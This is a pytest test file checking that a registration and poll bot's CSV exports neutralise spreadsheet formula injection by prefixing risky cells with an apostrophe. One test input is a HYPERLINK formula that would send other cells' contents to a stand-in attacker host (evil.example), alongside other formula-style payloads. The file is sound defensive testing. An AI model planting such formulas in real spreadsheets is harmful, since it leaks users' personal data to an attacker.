"""Exports a spreadsheet opens: a cell that would run as a formula is neutralised (OWASP CSV injection), in every
CSV the project writes, and the text stays readable."""
from __future__ import annotations

import csv
import io

import pytest
import requests

from bot.csv_export import csv_document, neutralise
from test_console import log_in, add_moderator
from test_registration import fill_in

TEAM = '=HYPERLINK("http://evil.example/?d="&C2&E2,"Open")'
NAME = "-Somchai Dee"
EMAIL = "+cmd@evil.com"


@pytest.mark.parametrize("cell", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "＝1+1",
                                  "\u00a0@x"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_keeps_its_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("value", ["สมชาย ใจดี", "OGP4-000001", "somchai@example.org", "0812345678", "", None, 3,
                                   -2.5, "a=b", "ทีม =HYPERLINK"])
def test_everything_else_is_left_as_it_is(value):
    assert neutralise(value) == value


def test_a_document_has_a_bom_and_quotes_what_csv_must_quote():
    text = csv_document(["a", "b"], [["=x,\"y\"", 1]])
    assert text.startswith("\ufeffa,b\r\n") and list(csv.reader(io.StringIO(text[1:])))[1] == ["'=x,\"y\"", "1"]


def registered_attacker(bot):
    fill_in(bot, "7901", name=NAME, contact=EMAIL, team=TEAM)
    bot.tap("7901", "✅ ยืนยัน", "REG:CONFIRM")
    with bot.db() as conn:  # accepted as typed: what a spreadsheet must not run is decided at export
        row = conn.execute("SELECT full_name, contact, team FROM registrations").fetchone()
    assert tuple(row) == (NAME, EMAIL, TEAM)


def parse(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_registration_exports_from_the_console_and_the_shell_neutralise_formulas(bot, tmp_path):
    registered_attacker(bot)
    add_moderator(bot)
    http = requests.Session()
    log_in(bot, http)
    out = tmp_path / "registrations.csv"
    assert bot.app.test_cli_runner().invoke(args=["export-registrations", "--output", str(out)]).exit_code == 0
    for raw in (http.get(f"{bot.url}/console/registrations.csv").content, out.read_bytes()):
        row = parse(raw)[0]
        assert (row["full_name"], row["contact"], row["team"]) == ("'" + NAME, "'" + EMAIL, "'" + TEAM)
        assert row["number"] == "OGP4-000001"  # the rest as it was


def test_the_live_results_csv_neutralises_formulas_in_options(bot):
    cli = bot.app.test_cli_runner()
    poll_id = int(cli.invoke(args=["poll", "create", "--question", "q", "--option", "=1+1 | @SUM(A1)",
                                   "--option", "ปกติ | normal"]).output)
    assert cli.invoke(args=["poll", "open", str(poll_id)]).exit_code == 0  # a draft's results are not public
    rows = parse(requests.get(f"{bot.url}/live/{poll_id}.csv").content)
    assert [(r["th"], r["en"]) for r in rows] == [("'=1+1", "'@SUM(A1)"), ("ปกติ", "normal")]
